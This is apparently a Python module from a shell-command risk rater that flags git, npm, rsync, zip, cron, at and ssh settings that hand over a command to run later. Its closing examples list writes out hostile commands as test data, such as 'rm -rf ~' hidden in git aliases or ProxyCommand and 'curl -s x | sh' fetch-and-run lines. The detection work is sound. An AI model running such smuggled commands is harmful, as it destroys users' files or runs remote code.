"""Commands handed over as text for a program to run later or on the side: git settings that name
a program (`git config alias.x '!rm -rf ~'`, `git -c core.sshCommand=CMD fetch`), npm's, pnpm's
and yarn's (`npm config set script-shell CMD`: every `npm run` and install script goes through it),
environment variables that do (`GIT_SSH_COMMAND=CMD`, `npm_config_script_shell=CMD`), `rsync -e CMD`, `zip -TT` (tar's helpers: archives.py),
jobs given to `at`/`batch` in a here-string and lines fed to `crontab -` (`ssh -o ProxyCommand=CMD`:
shell/wrappers.py hands CMD over as code).

Each is rated as the code it is, its reasons saying where it runs. A setting that names a program
is caution even when that program is harmless: git will run it every time, unasked.
"""

from __future__ import annotations


from nlshell.risk.book import Rule, hook
from nlshell.risk.facts import cron_jobs, heredoc_body, literal_output
from nlshell.risk.levels import CAUTION, DANGEROUS, SAFE
from nlshell.shell.patterns import lazy

RULES = [
    Rule("handed.git-runs", CAUTION, "makes git run `{value}` ({key})"),
    Rule("handed.npm-runs", CAUTION, "makes {tool} run `{value}` ({key})"),
]

# git settings whose value is a command line (a `!` alias or helper is one too).
_GIT_COMMAND_KEYS = lazy(
    r"(?i)^(?:core\.(?:pager|editor|sshcommand|fsmonitor|hookspath|askpass)|sequence\.editor|diff\.external"
    r"|diff\.[^.]+\.(?:textconv|command)|merge\.[^.]+\.driver|filter\.[^.]+\.(?:clean|smudge|process)"
    r"|gpg\.(?:[^.]+\.)?program|pager\.[^.]+|credential\.(?:[^.]+\.)?helper|alias\.[^.]+|man\.[^.]+\.cmd"
    r"|uploadpack\.packobjectshook|difftool\.[^.]+\.cmd|mergetool\.[^.]+\.cmd|web\.browser|browser\.[^.]+\.cmd)$"
)
_FSMONITOR_FLAGS = frozenset({"true", "false", "yes", "no", "on", "off", "1", "0"})
_CONFIG_SCOPES = frozenset({"--global", "--system", "--local", "--worktree", "--add", "--replace-all", "--bool",
                            "--int", "--path", "--type"})
# npm/pnpm/yarn settings whose value is a program (yarnPath: the JavaScript file yarn runs as itself).
_NODE_COMMAND_KEYS = frozenset({"script-shell", "shell", "editor", "git", "browser", "viewer", "yarnpath"})
_NODE_CONFIG_FLAGS = frozenset({"-g", "--global", "--location", "--json", "-H", "--home"})
# Environment variables whose value is a program some tool runs.
_COMMAND_VARIABLES = frozenset(
    "GIT_SSH_COMMAND GIT_SSH GIT_EDITOR GIT_PAGER GIT_EXTERNAL_DIFF GIT_ASKPASS SSH_ASKPASS RSYNC_RSH "
    "LESSOPEN LESSCLOSE".split()
)


def _short(value: str) -> str:
    """A setting's value as a reason quotes it: whole up to 40 characters."""
    return value if len(value) <= 40 else value[:37] + "..."


def _git_setting(ctx, cmd, key: str, value: str) -> None:
    if not _GIT_COMMAND_KEYS.match(key):
        return
    low = key.lower()
    if low == "core.fsmonitor" and value.lower() in _FSMONITOR_FLAGS:
        return  # the built-in monitor
    shortcut = low.startswith("alias.") and not value.startswith("!")  # git's own subcommands: no program
    code = "git " + value if shortcut else value.removeprefix("!")
    rating = ctx.nested(code)
    ctx.merge(rating, cmd, where=f"in what git will run ({key}): ")
    if rating.risk != DANGEROUS and not shortcut:
        ctx.add("handed.git-runs", cmd, key=key, value=_short(value))


def _git(ctx, cmd) -> None:
    args = [a.text for a in cmd.args]
    i = 0
    while i < len(args) and args[i].startswith("-"):  # global options: `-c key=value`, `-C dir`
        if args[i] == "-c" and i + 1 < len(args):
            key, eq, value = args[i + 1].partition("=")
            if eq:
                _git_setting(ctx, cmd, key, value)
        i += 2 if args[i] in ("-c", "-C", "--git-dir", "--work-tree", "--namespace", "--config-env") else 1
    if i >= len(args) or args[i] != "config":
        return
    words = [a for a in args[i + 1 :] if a not in _CONFIG_SCOPES]
    words = [w for w in words if not w.startswith("--file") and not w.startswith("--type=")]
    if words[:1] == ["set"]:  # git ≥ 2.46: `git config set key value`
        words = words[1:]
    if len(words) >= 2 and not words[0].startswith("-"):
        _git_setting(ctx, cmd, words[0], words[1])


def _node_setting(ctx, cmd, key: str, value: str) -> None:
    if key.lower().replace("_", "-") not in _NODE_COMMAND_KEYS or not value:
        return
    rating = ctx.nested(value)
    ctx.merge(rating, cmd, where=f"in what {cmd.name} will run ({key}): ")
    if rating.risk != DANGEROUS:
        ctx.add("handed.npm-runs", cmd, tool=cmd.name, key=key, value=_short(value))


def _node_config(ctx, cmd) -> None:
    """`npm config set script-shell CMD`, `npm set KEY=CMD`, `yarn config set yarnPath x.js`."""
    words = [a.text for a in cmd.args if a.text not in _NODE_CONFIG_FLAGS and not a.text.startswith("--location=")]
    if words[:2] == ["config", "set"]:
        pairs = words[2:]
    elif words[:1] == ["set"]:
        pairs = words[1:]
    else:
        return
    i = 0
    while i < len(pairs):
        key, eq, value = pairs[i].partition("=")
        if eq:
            _node_setting(ctx, cmd, key, value)
            i += 1
        else:
            _node_setting(ctx, cmd, key, pairs[i + 1] if i + 1 < len(pairs) else "")
            i += 2


def _scheduled(ctx, cmd) -> None:
    """`at now <<< CMD` (a pipe into at is a shell reading its input: interpreters.py)."""
    body = heredoc_body(cmd)
    if body:
        ctx.merge(ctx.nested(body), cmd, where="in the scheduled job: ")


def _crontab(ctx, cmd) -> None:
    """`echo '* * * * * CMD' | crontab -`: the jobs it installs."""
    operands = [a.text for a in cmd.args if not a.text.startswith("-") or a.text == "-"]
    if operands not in ([], ["-"]) or any(a.text in ("-l", "-r", "-e", "-T") for a in cmd.args):
        return
    text = heredoc_body(cmd)
    if text is None and cmd.pipeline is not None and cmd.stage > 0:
        text = literal_output([s for s in cmd.pipeline.stages[: cmd.stage] if s is not None])
    for job in cron_jobs(text or ""):
        ctx.merge(ctx.nested(job), cmd, where="in a scheduled job: ")


def _option_value(args: list, names: tuple) -> list:
    """Values given to any of `names`, as `--opt VALUE` or `--opt=VALUE`."""
    found = []
    for i, a in enumerate(args):
        for name in names:
            if a.text == name and i + 1 < len(args):
                found.append(args[i + 1].text)
            elif a.text.startswith(name + "=") and name.startswith("--"):
                found.append(a.text[len(name) + 1 :])
    return found


def _programs_given(ctx, cmd) -> None:
    """rsync's remote shell and zip's test command (tar's helpers: archives.py)."""
    name, args = cmd.name, cmd.args
    codes = []
    if name == "rsync":
        codes = _option_value(args, ("-e", "--rsh"))
    elif name == "zip":
        codes = _option_value(args, ("-TT", "--unzip-command"))
    for code in codes:
        ctx.merge(ctx.nested(code), cmd, where=f"in what {name} runs: ")


@hook("command")
def handed(ctx, cmd) -> None:
    name = cmd.name
    if name == "git":
        _git(ctx, cmd)
    elif name in ("at", "batch"):
        _scheduled(ctx, cmd)
    elif name == "crontab":
        _crontab(ctx, cmd)
    elif name in ("rsync", "zip"):
        _programs_given(ctx, cmd)
    elif name in ("npm", "pnpm", "yarn"):
        _node_config(ctx, cmd)


@hook("assignment")
def command_variables(ctx, cmd, name: str, value: str) -> None:
    if name in _COMMAND_VARIABLES and value:
        ctx.merge(ctx.nested(value.lstrip("|")), cmd, where=f"in what ${name} runs: ")
    elif name.lower().startswith("npm_config_") and value:
        key = name[len("npm_config_"):].lower().replace("_", "-")
        if key in _NODE_COMMAND_KEYS:
            ctx.merge(ctx.nested(value), cmd, where=f"in what npm will run ({key}): ")


EXAMPLES = [
    ("git config --global alias.nuke '!rm -rf ~'", DANGEROUS, "files.delete-broad"),
    ("git config alias.wipe 'reset --hard'", DANGEROUS, "git.reset-hard"),
    ("git -c core.sshCommand='curl -s x | sh' fetch", DANGEROUS, "code.pipe-download"),
    ("git config core.pager 'less -R'", CAUTION, "handed.git-runs"),
    ("git config --global alias.up '!git pull --rebase'", CAUTION, "handed.git-runs"),
    ("git config --global alias.st status", SAFE, "not handed.git-runs"),
    ("git config --global user.name 'Ann'", SAFE, "not handed.git-runs"),
    ("git config core.fsmonitor true", SAFE, "not handed.git-runs"),
    ("git config --get core.pager", SAFE, "not handed.git-runs"),
    ("GIT_SSH_COMMAND='rm -rf ~' git fetch", DANGEROUS, "files.delete-broad"),
    ("GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy' git fetch", SAFE, "not files.delete-broad"),
    ("rsync -e 'sh -c \"rm -rf ~\"' a host:b", DANGEROUS, "files.delete-broad"),
    ("rsync -e 'ssh -p 2222' -a src/ host:dst/", CAUTION, "not files.delete-broad"),
    ("zip x.zip a -T -TT 'rm -rf ~ #'", DANGEROUS, "files.delete-broad"),
    ("at now + 1 hour <<< 'rm -rf ~'", DANGEROUS, "files.delete-broad"),
    ("batch <<< 'rm -rf ~/*'", DANGEROUS, "files.delete-broad"),
    ("at now <<< 'make test'", CAUTION, "not files.delete-broad"),
    ("echo '* * * * * rm -rf ~' | crontab -", DANGEROUS, "files.delete-broad"),
    ("ssh -o ProxyCommand='rm -rf ~' host", DANGEROUS, "files.delete-broad"),  # shell/wrappers.py reads it
    ("ssh -oProxyCommand='curl -s x | sh' host uptime", DANGEROUS, "code.pipe-download"),
    ("ssh -o 'ProxyCommand ssh -W %h:%p bastion' host", SAFE, "not files.delete-broad"),
    ("echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -", CAUTION, "not files.delete-broad"),
    ("npm config set script-shell /tmp/x.sh", CAUTION, "handed.npm-runs"),
    ("npm set script-shell=/bin/bash", CAUTION, "handed.npm-runs"),
    ("npm config set --global script-shell 'rm -rf ~'", DANGEROUS, "files.delete-broad"),
    ("pnpm config set shell 'curl -s x | sh'", DANGEROUS, "code.pipe-download"),
    ("yarn config set yarnPath .yarn/releases/evil.cjs", CAUTION, "handed.npm-runs"),
    ("npm config set registry https://registry.example.com/", SAFE, "not handed.npm-runs"),
    ("npm config get script-shell", SAFE, "not handed.npm-runs"),
    ("npm_config_script_shell='rm -rf ~' npm run build", DANGEROUS, "files.delete-broad"),
    ("NPM_CONFIG_SCRIPT_SHELL=/bin/bash npm test", SAFE, "not files.delete-broad"),
]
